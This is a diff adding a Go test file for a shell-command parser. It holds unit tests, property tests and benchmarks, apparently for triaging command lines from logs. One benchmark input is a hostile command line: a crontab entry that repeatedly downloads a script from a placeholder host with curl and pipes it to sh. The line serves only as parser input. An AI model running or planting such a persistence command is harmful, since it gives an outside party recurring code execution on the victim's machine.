@@ -1,0 +1,207 @@
+package shell
+
+import (
+	"math/rand"
+	"reflect"
+	"strings"
+	"testing"
+	"testing/quick"
+)
+
+func TestInvocations(t *testing.T) {
+	ast := mustParse(t, "docker run --rm -it ubuntu bash")
+	invs := ast.Invocations()
+	if len(invs) != 1 {
+		t.Fatalf("invocations = %d, want 1", len(invs))
+	}
+	inv := invs[0]
+	if inv.Name != "docker" {
+		t.Errorf("name = %q", inv.Name)
+	}
+	if !reflect.DeepEqual(inv.Flags, []string{"--rm", "-it"}) {
+		t.Errorf("flags = %v", inv.Flags)
+	}
+	if !reflect.DeepEqual(inv.Args, []string{"run", "ubuntu", "bash"}) {
+		t.Errorf("args = %v", inv.Args)
+	}
+}
+
+func TestInvocationPathStripping(t *testing.T) {
+	ast := mustParse(t, "/usr/local/bin/python3 -m http.server 8000")
+	inv := ast.Invocations()[0]
+	if inv.Name != "python3" {
+		t.Errorf("name = %q, want python3", inv.Name)
+	}
+	if inv.Path != "/usr/local/bin/python3" {
+		t.Errorf("path = %q", inv.Path)
+	}
+}
+
+func TestInvocationAssignmentsOnly(t *testing.T) {
+	ast := mustParse(t, "FOO=1 BAR=2")
+	invs := ast.Invocations()
+	if len(invs) != 1 {
+		t.Fatalf("invocations = %d, want 1", len(invs))
+	}
+	if invs[0].Name != "" || len(invs[0].Assignments) != 2 {
+		t.Errorf("got %+v", invs[0])
+	}
+}
+
+func TestCommandNames(t *testing.T) {
+	ast := mustParse(t, "cat a | grep b | cat c; grep d")
+	got := ast.CommandNames()
+	want := []string{"cat", "grep"}
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("names = %v, want %v", got, want)
+	}
+	if ast.FirstCommand() != "cat" {
+		t.Errorf("first = %q", ast.FirstCommand())
+	}
+}
+
+func TestIsFlag(t *testing.T) {
+	tests := []struct {
+		in   string
+		want bool
+	}{
+		{"-l", true},
+		{"--rate=1000", true},
+		{"-p0-65535", true},
+		{"-", false},
+		{"--", false},
+		{"file.txt", false},
+		{"", false},
+	}
+	for _, tc := range tests {
+		if got := IsFlag(tc.in); got != tc.want {
+			t.Errorf("IsFlag(%q) = %v, want %v", tc.in, got, tc.want)
+		}
+	}
+}
+
+func TestNormalize(t *testing.T) {
+	got := Normalize("  ls    -la\t/tmp  ")
+	if got != "ls -la /tmp" {
+		t.Errorf("Normalize = %q", got)
+	}
+	// Invalid lines fall back to trimming.
+	got = Normalize("  /*/* -> bad ->  ")
+	if got != "/*/* -> bad ->" {
+		t.Errorf("Normalize fallback = %q", got)
+	}
+}
+
+// commandWords is the alphabet for the property test generator.
+var commandWords = []string{
+	"ls", "cat", "grep", "-la", "-i", "/tmp", "file.txt", "'a b'", `"x y"`,
+	"$HOME", "${PATH}", "$(date)", "a=1",
+}
+
+// genLine builds a random syntactically valid command line.
+func genLine(r *rand.Rand) string {
+	var b strings.Builder
+	nCmds := 1 + r.Intn(3)
+	for i := 0; i < nCmds; i++ {
+		if i > 0 {
+			b.WriteString([]string{" ; ", " && ", " || ", " | "}[r.Intn(4)])
+		}
+		nWords := 1 + r.Intn(4)
+		for j := 0; j < nWords; j++ {
+			if j > 0 {
+				b.WriteByte(' ')
+			}
+			w := commandWords[r.Intn(len(commandWords))]
+			if j == 0 {
+				// Ensure the first word is a plain command name so that the
+				// line cannot degenerate into assignments only.
+				w = []string{"ls", "cat", "grep"}[r.Intn(3)]
+			}
+			b.WriteString(w)
+		}
+	}
+	return b.String()
+}
+
+// TestQuickGeneratedLinesParse is a property test: every line assembled from
+// valid fragments with valid separators must parse, and its canonical form
+// must re-parse to the same canonical form.
+func TestQuickGeneratedLinesParse(t *testing.T) {
+	cfg := &quick.Config{
+		MaxCount: 300,
+		Values: func(values []reflect.Value, r *rand.Rand) {
+			values[0] = reflect.ValueOf(genLine(r))
+		},
+	}
+	prop := func(line string) bool {
+		ast, err := Parse(line)
+		if err != nil {
+			t.Logf("Parse(%q): %v", line, err)
+			return false
+		}
+		s1 := ast.String()
+		ast2, err := Parse(s1)
+		if err != nil {
+			t.Logf("reparse(%q): %v", s1, err)
+			return false
+		}
+		return ast2.String() == s1
+	}
+	if err := quick.Check(prop, cfg); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestQuickParserNeverPanics feeds random byte soup to the parser; it must
+// return an error or an AST, never panic. This is the robustness property
+// pre-processing depends on: arbitrary log garbage is triaged, not crashed on.
+func TestQuickParserNeverPanics(t *testing.T) {
+	alphabet := []byte("abc -|&;()<>'\"\\$`{}#=/*.0123456789\t")
+	cfg := &quick.Config{
+		MaxCount: 2000,
+		Values: func(values []reflect.Value, r *rand.Rand) {
+			n := r.Intn(40)
+			buf := make([]byte, n)
+			for i := range buf {
+				buf[i] = alphabet[r.Intn(len(alphabet))]
+			}
+			values[0] = reflect.ValueOf(string(buf))
+		},
+	}
+	prop := func(line string) (ok bool) {
+		defer func() {
+			if rec := recover(); rec != nil {
+				t.Logf("panic on %q: %v", line, rec)
+				ok = false
+			}
+		}()
+		ast, err := Parse(line)
+		if err == nil && ast == nil {
+			return false
+		}
+		return true
+	}
+	if err := quick.Check(prop, cfg); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func BenchmarkParseSimple(b *testing.B) {
+	line := "cat /var/log/syslog | grep -i error | awk '{print $5}' | sort | uniq -c"
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		if _, err := Parse(line); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func BenchmarkParseComplex(b *testing.B) {
+	line := `(crontab -l; echo "* * * * * curl -fsSL http://x.example/s.sh | sh") | crontab - && FOO=$(date +%s) bash -c "echo $FOO" >> /tmp/log 2>&1`
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		if _, err := Parse(line); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
